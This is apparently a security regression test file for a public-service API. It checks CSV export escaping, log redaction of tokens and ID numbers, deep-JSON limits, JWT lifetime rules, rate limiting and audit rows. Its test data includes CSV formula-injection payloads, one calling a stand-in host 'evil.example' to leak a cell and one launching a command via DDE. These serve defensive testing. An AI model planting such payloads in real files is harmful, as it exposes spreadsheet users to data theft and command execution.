/**
 * Security round 2, the input and transport findings (issue 19, parts 4, 6, 7, 8, 9 and 12): each
 * was seen on a real run, and each is a request here against the real API, database and Temporal.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { and, eq } from 'drizzle-orm';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../api/app.js';
import { issueToken } from '../api/auth.js';
import { residentIdCheck } from '../api/identity.js';
import { auditLog } from '../db/schema/index.js';
import { ConfigError, loadConfig } from '../server/config.js';
import { createLogger } from '../server/runtime.js';
import { type Stack, TEST_JWT_SECRET, adminOf, startStack, submission, supervisorOf, testConfig, uniqueCreditCode } from './support/stack.js';

let stack: Stack;
beforeAll(async () => {
  stack = await startStack({ worker: false });
});
afterAll(() => stack?.close());

type Security = NonNullable<Parameters<typeof buildApp>[0]['security']>;
/** Another instance of the API on the stack's database and Temporal, with its own settings. */
const appWith = (security: Security = {}, auth = testConfig().auth, options?: Parameters<typeof buildApp>[1]) =>
  buildApp({ database: stack.database, auth, temporal: { client: stack.client, connection: stack.connection, taskQueue: stack.taskQueue }, security }, options);

describe('the catalogue export (CSV formula injection)', () => {
  const suffix = randomUUID().slice(0, 8);
  // Names an attacker (or a careless administrator) could give an item, and a spreadsheet would run.
  const names = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    '+1+1 事项',
    '-1+1 事项',
    '@SUM(1+1) 事项',
    "'=已经加了引号",
    "'普通引号开头",
  ];
  const items = names.map((name, i) => ({
    code: `csv-${suffix}-${i}`,
    name,
    nameEn: i === 0 ? '-cmd' : `CSV ${i}`,
    department: 'market_regulation',
    kind: 'promised',
    levels: ['city'],
    legalBasis: i === 1 ? '@evil' : '测试',
    statutoryLimitDays: 20,
    promisedLimitDays: 5,
    steps: [{ name: '审查', departments: [{ code: 'market_regulation', promisedLimitDays: 5 }] }],
  }));

  it('writes no cell a spreadsheet would run, and an export imported again changes nothing', async () => {
    const admin = stack.as(adminOf());
    const created = await admin({ method: 'POST', url: '/v1/catalogue/import', payload: { items } });
    expect(created.statusCode, created.body).toBe(200);
    expect(created.json().created).toHaveLength(items.length);

    const exported = await stack.app.inject('/v1/catalogue/export?format=csv');
    expect(exported.statusCode).toBe(200);
    const records = parse(exported.body, { columns: true, bom: true }) as Record<string, string>[];
    const ours = records.filter((r) => r.code.startsWith(`csv-${suffix}-`));
    expect(ours).toHaveLength(items.length);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) expect(cell, `${record.code}.${column}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(ours.find((r) => r.code.endsWith('-0'))).toMatchObject({ name: `'${names[0]}`, nameEn: "'-cmd" });
    expect(ours.find((r) => r.code.endsWith('-1'))?.legalBasis).toBe("'@evil");
    expect(ours.find((r) => r.code.endsWith('-6'))?.name).toBe(names[6]);

    // Our rows, as the export wrote them, imported again: every item unchanged, every name as it was.
    const again = await admin({ method: 'POST', url: '/v1/catalogue/import', payload: stringify(ours, { header: true }), headers: { 'content-type': 'text/csv' } });
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toEqual({ created: [], updated: [], unchanged: items.map((i) => i.code) });
    for (const item of items) {
      const found = (await stack.app.inject(`/v1/items/${item.code}`)).json();
      expect(found.definition).toMatchObject({ name: item.name, nameEn: item.nameEn, legalBasis: item.legalBasis });
    }
  });
});

describe('logs (tokens and numbers however the URL spells them)', () => {
  /** Every percent-escape decoded, as a reader of the log (or a tool) would. */
  const decoded = (text: string) => {
    for (let before = ''; before !== text; ) [before, text] = [text, text.replace(/%([0-9A-Fa-f]{2})/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16)))];
    return text;
  };
  /** A resident ID number whose check character is X. */
  const idNumberWithX = () => {
    for (;;) {
      const first17 = `45010219900101${String(Math.floor(Math.random() * 1000)).padStart(3, '0')}`;
      if (residentIdCheck(first17) === 'X') return `${first17}X`;
    }
  };

  it('keeps out every spelling of a query token, and masks escaped and small-letter ID numbers', async () => {
    const lines: string[] = [];
    const logger = createLogger('debug', { write: (line: string) => void lines.push(line) });
    const app = await appWith({}, testConfig().auth, { loggerInstance: logger });
    const token = await stack.token(supervisorOf());
    const [, payload, signature] = token.split('.');
    const idNumber = idNumberWithX();
    const creditCode = uniqueCreditCode();
    const escaped = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');
    try {
      const urls = [
        `/v1/me?access%5Ftoken=${token}`,
        `/v1/me?access_token=${token.replaceAll('.', '%2E')}`,
        `/v1/me?ACCESS_TOKEN=${token}`,
        `/v1/me?access%255Ftoken=${token.replaceAll('.', '%252E')}`,
        `/v1/applications?applicant=${escaped(idNumber)}`,
        `/v1/applications?applicant=${idNumber.toLowerCase()}`,
        `/v1/applications?applicant=${creditCode.toLowerCase()}&x=${escaped(creditCode)}`,
      ];
      for (const url of urls) {
        const res = await app.inject({ url });
        // A token in a query string signs nobody in, whatever its spelling.
        expect(res.statusCode, url).toBe(401);
      }
    } finally {
      await app.close();
    }
    const all = lines.join('');
    expect(all).toContain('incoming request');
    expect(all).not.toContain('"level":50');
    const readable = decoded(all).toUpperCase();
    for (const secret of [payload, signature, token]) expect(readable).not.toContain(secret.toUpperCase());
    for (const number of [idNumber, creditCode]) expect(readable).not.toContain(number);
    expect(all).toContain(`${idNumber.slice(0, 4)}**********${idNumber.slice(-4).toLowerCase()}`);
  });
});

describe('deep JSON', () => {
  const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

  it('answers a 5,000-level application body with 400 in the one error shape, not 500', async () => {
    // In a field the schema reads, so that nothing could be submitted even if the depth went unnoticed.
    const body = JSON.stringify(submission()).replace(/}$/, `,"materials":[${nested(5000)}]}`);
    const res = await stack.integrator({ method: 'POST', url: '/v1/applications', payload: body, headers: { 'content-type': 'application/json' } });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toEqual({ error: { code: 'validation_failed', message: expect.stringContaining('nested deeper than 32 levels'), details: [{ field: 'body', message: expect.any(String) }] } });
  });

  it('answers a 6 MB nested catalogue import with 400, as JSON and as a CSV cell', async () => {
    const admin = stack.as(adminOf());
    const depth = 3_000_000;
    const json = `{"items":[${'['.repeat(depth)}${']'.repeat(depth)}]}`;
    expect(json.length).toBeGreaterThan(6_000_000);
    const res = await admin({ method: 'POST', url: '/v1/catalogue/import', payload: json, headers: { 'content-type': 'application/json' } });
    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
    expect(res.json().error.code).toBe('validation_failed');

    const cell = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const csv = `code,name,nameEn,department,kind,levels,legalBasis,statutoryLimitDays,promisedLimitDays,steps\ndeep,深,Deep,market_regulation,promised,city,测试,20,5,"${cell}"\n`;
    const fromCsv = await admin({ method: 'POST', url: '/v1/catalogue/import', payload: csv, headers: { 'content-type': 'text/csv' } });
    expect(fromCsv.statusCode, fromCsv.body.slice(0, 300)).toBe(400);
    expect(fromCsv.json().error.details).toContainEqual({ field: 'items[0].steps', message: 'is nested deeper than 32 levels' });
  });

  it('still takes a body nested within the limit', async () => {
    const res = await stack.integrator({ method: 'POST', url: '/v1/applications', payload: JSON.stringify({ ...submission(), materials: [JSON.parse(nested(20))] }), headers: { 'content-type': 'application/json' } });
    // Read, and refused by the schema (a material is a name), not for its depth.
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({ code: 'validation_failed', details: [expect.objectContaining({ field: expect.stringMatching(/^body\.materials/) })] });
    expect(res.json().error.message).not.toContain('nested deeper');
  });
});

describe('staff token lifetime', () => {
  const now = () => Math.floor(Date.now() / 1000);
  /** A token signed with the right secret, issuer and audience, with these claims. */
  const signed = (claims: Record<string, unknown>) =>
    new SignJWT({ iss: 'onewindow', aud: 'onewindow', sub: supervisorOf(), ...claims }).setProtectedHeader({ alg: 'HS256' }).sign(new TextEncoder().encode(TEST_JWT_SECRET));
  const me = async (token: string, app = stack.app) => app.inject({ url: '/v1/me', headers: { authorization: `Bearer ${token}` } });

  it('refuses exp far ahead, iat in the future, no iat, sub not a string; takes a small skew and the longest lifetime', async () => {
    const refused = {
      'exp=9999999999999': await signed({ iat: now(), exp: 9_999_999_999_999 }),
      'iat a year ahead': await signed({ iat: now() + 365 * 86_400, exp: now() + 365 * 86_400 + 3600 }),
      'no iat': await signed({ exp: now() + 3600 }),
      '13 hours': await signed({ iat: now(), exp: now() + 13 * 3600 }),
      'issued 13 hours ago': await signed({ iat: now() - 13 * 3600, exp: now() + 60 }),
      'sub an array': await signed({ sub: [supervisorOf()], iat: now(), exp: now() + 3600 }),
      'sub a number': await signed({ sub: 450000, iat: now(), exp: now() + 3600 }),
    };
    for (const [what, token] of Object.entries(refused)) {
      const res = await me(token);
      expect(res.statusCode, what).toBe(401);
      expect(res.json().error.code, what).toBe('unauthorized');
    }
    expect((await me(refused['iat a year ahead'])).json().error.message).toMatch(/issued in the future/);
    expect((await me(refused['13 hours'])).json().error.message).toMatch(/longer than the 12 hours/);
    expect((await me(refused['sub an array'])).json().error.message).toMatch(/subject/);

    for (const [what, token] of Object.entries({
      '30 s of skew': await signed({ iat: now() + 30, exp: now() + 3600 }),
      '12 hours': await signed({ iat: now(), exp: now() + 12 * 3600 }),
      'npm run token': await issueToken(testConfig().auth, supervisorOf(), '8h'),
    })) {
      expect((await me(token)).statusCode, what).toBe(200);
    }
  });

  it('takes its maximum from AUTH_MAX_TOKEN_HOURS, validated, and issues no longer token', async () => {
    const auth = testConfig({ AUTH_MAX_TOKEN_HOURS: '2' }).auth;
    expect(auth.maxTokenHours).toBe(2);
    expect(testConfig().auth.maxTokenHours).toBe(12);
    const app = await appWith({}, auth);
    try {
      expect((await me(await signed({ iat: now(), exp: now() + 3 * 3600 }), app)).statusCode).toBe(401);
      expect((await me(await issueToken(auth, supervisorOf(), '2h'), app)).statusCode).toBe(200);
    } finally {
      await app.close();
    }
    await expect(issueToken(auth, supervisorOf(), '3h')).rejects.toThrow(/at most 2 hours \(AUTH_MAX_TOKEN_HOURS\)/);
    for (const bad of ['0', '721', 'eight', '1.5']) {
      expect(() => loadConfig({ AUTH_MAX_TOKEN_HOURS: bad }), bad).toThrow(ConfigError);
      expect(() => loadConfig({ AUTH_MAX_TOKEN_HOURS: bad }), bad).toThrow(/AUTH_MAX_TOKEN_HOURS/);
    }
  });
});

describe('rate limiting', () => {
  it('answers 429 rate_limited with Retry-After, for an address and for failed sign-ins', async () => {
    const app = await appWith({ rateLimitPerMinute: 2 });
    try {
      for (let i = 0; i < 2; i += 1) expect((await app.inject('/v1/items?q=rate')).statusCode).toBe(200);
      const limited = await app.inject('/v1/items?q=rate');
      expect(limited.statusCode).toBe(429);
      expect(limited.json()).toEqual({ error: { code: 'rate_limited', message: expect.stringMatching(/rate limit.*retry in/i) } });
      expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
      expect(Number(limited.headers['retry-after'])).toBeLessThanOrEqual(60);
    } finally {
      await app.close();
    }
    const guarded = await appWith({ rateLimitPerMinute: 2 });
    try {
      const guess = () => guarded.inject({ url: '/v1/me', headers: { 'x-api-key': `ow_${'0'.repeat(12)}_${'A'.repeat(43)}` } });
      await guess();
      await guess();
      const refused = await guess();
      expect(refused.statusCode).toBe(429);
      expect(refused.json().error.code).toBe('rate_limited');
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    } finally {
      await guarded.close();
    }
  });

  it('never limits /healthz and /readyz', async () => {
    const app = await appWith({ rateLimitPerMinute: 2 });
    try {
      for (let i = 0; i < 6; i += 1) {
        expect((await app.inject('/healthz')).statusCode).toBe(200);
        expect((await app.inject('/readyz')).statusCode).not.toBe(429);
      }
      expect((await app.inject('/v1/items?q=rate')).statusCode).toBe(200);
    } finally {
      await app.close();
    }
  });

  it('counts each caller behind a trusted proxy by X-Forwarded-For, and ignores the header from anyone else', async () => {
    const from = (address: string) => ({ url: '/v1/items?q=rate', headers: { 'x-forwarded-for': address } });
    // inject's peer is 127.0.0.1: the proxy.
    const behindProxy = await appWith({ rateLimitPerMinute: 2, trustProxy: ['127.0.0.1'] });
    try {
      expect((await behindProxy.inject(from('203.0.113.1'))).statusCode).toBe(200);
      expect((await behindProxy.inject(from('203.0.113.1'))).statusCode).toBe(200);
      expect((await behindProxy.inject(from('203.0.113.1'))).statusCode).toBe(429);
      expect((await behindProxy.inject(from('203.0.113.2'))).statusCode).toBe(200);
    } finally {
      await behindProxy.close();
    }
    const direct = await appWith({ rateLimitPerMinute: 2 });
    try {
      // Without the setting the header is anyone's to write: it changes nothing, a caller cannot escape its limit with it.
      expect((await direct.inject(from('203.0.113.1'))).statusCode).toBe(200);
      expect((await direct.inject(from('203.0.113.2'))).statusCode).toBe(200);
      expect((await direct.inject(from('203.0.113.3'))).statusCode).toBe(429);
    } finally {
      await direct.close();
    }
    const byHops = await appWith({ rateLimitPerMinute: 1, trustProxy: 1 });
    try {
      // One hop: the address the proxy saw (the last one it appended), not what the client wrote before it.
      expect((await byHops.inject(from('198.51.100.9, 203.0.113.1'))).statusCode).toBe(200);
      expect((await byHops.inject(from('198.51.100.10, 203.0.113.1'))).statusCode).toBe(429);
      expect((await byHops.inject(from('203.0.113.2'))).statusCode).toBe(200);
    } finally {
      await byHops.close();
    }
  });

  it('reads TRUST_PROXY, and names it when it is wrong', () => {
    const proxy = (value: string) => loadConfig({ TRUST_PROXY: value }).security.trustProxy;
    expect(proxy('10.0.0.5, 10.1.0.0/16,loopback')).toEqual(['10.0.0.5', '10.1.0.0/16', 'loopback']);
    expect(proxy('fd00::/8')).toEqual(['fd00::/8']);
    expect(proxy('2')).toBe(2);
    expect(proxy('true')).toBe(true);
    expect(proxy('false')).toBeUndefined();
    expect(loadConfig({}).security.trustProxy).toBeUndefined();
    for (const bad of ['proxy.example', '10.0.0.0/33', '0', '10.0.0.1/8/2', ',']) {
      expect(() => proxy(bad), bad).toThrow(ConfigError);
      expect(() => proxy(bad), bad).toThrow(/TRUST_PROXY/);
    }
  });
});

describe('audit', () => {
  it('names the item a new item’s row concerns, and the items an import created', async () => {
    const code = `audit-${randomUUID().slice(0, 8)}`;
    const definition = {
      code,
      name: '审计测试事项',
      nameEn: 'Audit test item',
      department: 'market_regulation',
      kind: 'promised',
      levels: ['city'],
      legalBasis: '测试',
      statutoryLimitDays: 20,
      promisedLimitDays: 5,
      steps: [{ name: '审查', departments: [{ code: 'market_regulation', promisedLimitDays: 5 }] }],
    };
    const created = await stack.as(adminOf())({ method: 'POST', url: '/v1/items', payload: definition });
    expect(created.statusCode, created.body).toBe(201);
    const byTarget = await stack.db.select().from(auditLog).where(and(eq(auditLog.action, 'POST /v1/items'), eq(auditLog.target, code)));
    expect(byTarget).toHaveLength(1);
    expect(byTarget[0].actor).toMatchObject({ id: adminOf() });

    const imported = await stack.as(adminOf())({ method: 'POST', url: '/v1/catalogue/import', payload: { items: [{ ...definition, code: `${code}-i` }] } });
    expect(imported.statusCode, imported.body).toBe(200);
    const importRow = await stack.db.select().from(auditLog).where(and(eq(auditLog.action, 'POST /v1/catalogue/import'), eq(auditLog.target, `${code}-i`)));
    expect(importRow).toHaveLength(1);
  });
});
